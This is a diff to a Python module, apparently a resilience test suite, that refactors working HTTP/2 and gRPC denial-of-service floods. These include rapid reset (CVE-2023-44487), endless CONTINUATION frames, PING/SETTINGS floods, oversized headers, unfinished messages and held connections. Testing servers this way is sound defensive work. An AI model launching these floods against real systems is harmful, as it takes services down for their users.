@@ -1,4 +1,4 @@
-"""Attacks on the gRPC port, in frames of their own making."""
+"""Attacks on the gRPC port, in frames of their own making; attacks_http.py says what they return."""
 
 import struct
 import threading
@@ -8,6 +8,11 @@ import wire
 from attacks_http import hold, in_parallel
 
 CALL = wire.call_headers("Generate")
+
+
+def floods(count, flood):
+    """`count` threads that do flood(started) again and again."""
+    return lambda started: in_parallel(count, lambda _: flood(started))
 
 
 class Flood:
@@ -33,9 +38,9 @@ class Flood:
         return self.stream
 
 
-def rapid_reset(options, started):
+def rapid_reset(options):
     """Calls that are reset as soon as they are begun (CVE-2023-44487), on four connections."""
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc)
         try:
             while True:
@@ -48,15 +53,16 @@ def rapid_reset(options, started):
                 started()
         finally:
             peer.connection.close()
-    in_parallel(4, flood)
+
+    return floods(4, flood)
 
 
-def continuation(options, started):
+def continuation(options):
     """A header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316), on four connections."""
     block = b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(140))
     pieces = wire.frame(wire.CONTINUATION, 0, 1, block) * 16
 
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc)
         try:
             peer.connection.sendall(wire.frame(wire.HEADERS, 0, peer.next_stream(), CALL))
@@ -65,14 +71,15 @@ def continuation(options, started):
                 started()
         finally:
             peer.connection.close()
-    in_parallel(4, flood)
+
+    return floods(4, flood)
 
 
-def large_headers(options, started):
+def large_headers(options):
     """Calls with 64 KB of headers, in frames as they should be."""
     block = CALL + b"".join(wire.header(f"x-{i:04}", "y" * 100) for i in range(580))
 
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc)
         try:
             while True:
@@ -85,14 +92,15 @@ def large_headers(options, started):
                 started()
         finally:
             peer.connection.close()
-    in_parallel(4, flood)
+
+    return floods(4, flood)
 
 
-def unfinished_streams(options, started):
+def unfinished_streams(options):
     """Calls of a method that begin and never send their request, a hundred thousand a connection, and 16 KB of each."""
     part = b"\0" + struct.pack(">I", 1 << 20) + b"x" * 16000
 
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc)
         try:
             for _ in range(100_000):
@@ -103,29 +111,36 @@ def unfinished_streams(options, started):
             time.sleep(600)
         finally:
             peer.connection.close()
-    in_parallel(8, flood)
+
+    return floods(8, flood)
 
 
-def unfinished_messages(options, started):
+def unfinished_messages(options):
     """Messages of 60 MB that come but for their last byte, on 32 connections."""
-    def flood(_):
+    message = b"\0" + struct.pack(">I", 60 << 20) + bytes((60 << 20) - 1)
+
+    def flood(started):
         peer = wire.GrpcConnection(options.grpc, 30)
         try:
-            peer.send("Tokenize", b"\0" + struct.pack(">I", 60 << 20) + bytes((60 << 20) - 1), finish=False)
+            peer.send("Tokenize", message, finish=False)
             started()
             time.sleep(600)
         finally:
             peer.close()
-    in_parallel(32, flood)
-    # Where windows or memory are bounded none gets to its last byte.
-    threading.Timer(2, started).start()
+
+    def attack(started):
+        in_parallel(32, lambda _: flood(started))
+        # Where windows or memory are bounded no message gets to its last byte.
+        threading.Timer(1, started).start()
+
+    return attack
 
 
-def unread_answers(options, started):
+def unread_answers(options):
     """Hundreds of calls on a connection whose answers have no window, so that the gateway has to keep them."""
     request = wire.message(wire.tokenize_request("a b" * 3000))
 
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc, window=0)
         try:
             for _ in range(2000):
@@ -137,14 +152,15 @@ def unread_answers(options, started):
             time.sleep(600)
         finally:
             peer.connection.close()
-    in_parallel(8, flood)
+
+    return floods(8, flood)
 
 
-def pings(options, started):
+def pings(options):
     """PING and SETTINGS frames, all of which want an answer (CVE-2019-9512, CVE-2019-9515)."""
     burst = (wire.frame(wire.PING, 0, 0, b"12345678") + wire.settings(initial_window_size=65535)) * 500
 
-    def flood(_):
+    def flood(started):
         peer = Flood(options.grpc)
         try:
             while True:
@@ -152,19 +168,20 @@ def pings(options, started):
                 started()
         finally:
             peer.connection.close()
-    in_parallel(4, flood)
+
+    return floods(4, flood)
 
 
-def connections(options, started):
+def connections(options):
     """1,100 connections to the gRPC port that have sent HTTP/2's preface."""
-    hold(options.grpc, wire.PREFACE + wire.settings(), 1100, started)
+    return lambda started: hold(options.grpc, wire.PREFACE + wire.settings(), 1100, started)
 
 
-def tokenize(options, started):
+def tokenize(options):
     """Tokenize of 63 MB over gRPC."""
     request = wire.message(wire.tokenize_request("a b" * (21 << 20)))
 
-    def ask(_):
+    def ask(started):
         peer = wire.GrpcConnection(options.grpc, 10)
         try:
             peer.send("Tokenize", request)
@@ -172,8 +189,12 @@ def tokenize(options, started):
             peer.answer()
         finally:
             peer.close()
-    in_parallel(2, ask)
-    threading.Timer(2, started).start()
+
+    def attack(started):
+        in_parallel(2, lambda _: ask(started))
+        threading.Timer(1, started).start()
+
+    return attack
 
 
 ATTACKS = {
